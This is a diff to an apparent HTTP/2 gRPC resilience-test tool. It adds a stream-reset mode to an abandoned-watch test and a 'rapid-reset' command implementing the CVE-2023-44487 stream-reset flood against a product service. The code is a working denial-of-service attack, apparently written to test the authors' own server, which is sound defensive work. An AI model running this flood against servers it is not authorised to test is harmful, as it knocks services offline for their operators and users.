@@ -383,9 +383,13 @@ def string_field(number, text):
 
 def abandon_watches(args):
     """`rounds` times: one connection, `streams` Health/Watch calls for an unknown service, each
-    answered SERVICE_UNKNOWN and left open; then the socket is closed under them."""
+    answered SERVICE_UNKNOWN and left open; then the socket is closed under them (with `--reset`,
+    each stream is reset with RST_STREAM CANCEL instead, and the connection stays open until the
+    command's output is read: it prints, then waits for its standard input to close)."""
+    import h2.errors
     import h2.events
 
+    kept = []
     for _ in range(args.rounds):
         raw = RawHTTP2(args)
         request = grpc_message(string_field(1, "not.a.Service"))
@@ -407,8 +411,40 @@ def abandon_watches(args):
                     received.add(event.stream_id)
                     raw.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
             raw.flush()
-        raw.sock.close()
-    print(json.dumps({"abandoned": args.rounds * args.streams}))
+        if args.reset:
+            for index in range(args.streams):
+                raw.h2.reset_stream(1 + 2 * index, h2.errors.ErrorCodes.CANCEL)
+            raw.flush()
+            kept.append(raw)
+        else:
+            raw.sock.close()
+    print(json.dumps({"abandoned": args.rounds * args.streams}), flush=True)
+    if args.reset:
+        sys.stdin.read()
+
+
+def rapid_reset(args):
+    """Opens GetProduct streams and resets each at once (CVE-2023-44487's rapid reset), `streams`
+    times; prints how the server ends the connection."""
+    import h2.errors
+
+    raw = RawHTTP2(args)
+    raw.until(lambda: raw.settings)
+    for index in range(args.streams):
+        stream = 1 + 2 * index
+        raw.h2.send_headers(stream, raw.grpc_headers(args, "/catalog.v1.ProductService/GetProduct"))
+        raw.h2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
+        if index % 50 == 49:
+            try:
+                raw.flush()
+            except OSError:
+                break
+    try:
+        raw.flush()
+    except OSError:
+        pass
+    raw.until(lambda: raw.goaway is not None)
+    raw.report()
 
 
 def zero_window(args):
@@ -525,7 +561,11 @@ def main():
     command = commands.add_parser("abandon-watches", help=abandon_watches.__doc__)
     command.add_argument("--rounds", type=int, required=True)
     command.add_argument("--streams", type=int, required=True)
+    command.add_argument("--reset", action="store_true", help="reset the streams, keep the connections")
     command.set_defaults(run=abandon_watches)
+    command = commands.add_parser("rapid-reset", help=rapid_reset.__doc__)
+    command.add_argument("--streams", type=int, required=True)
+    command.set_defaults(run=rapid_reset)
     command = commands.add_parser("zero-window", help=zero_window.__doc__)
     command.add_argument("--sku", required=True)
     command.add_argument("--calls", type=int, required=True)
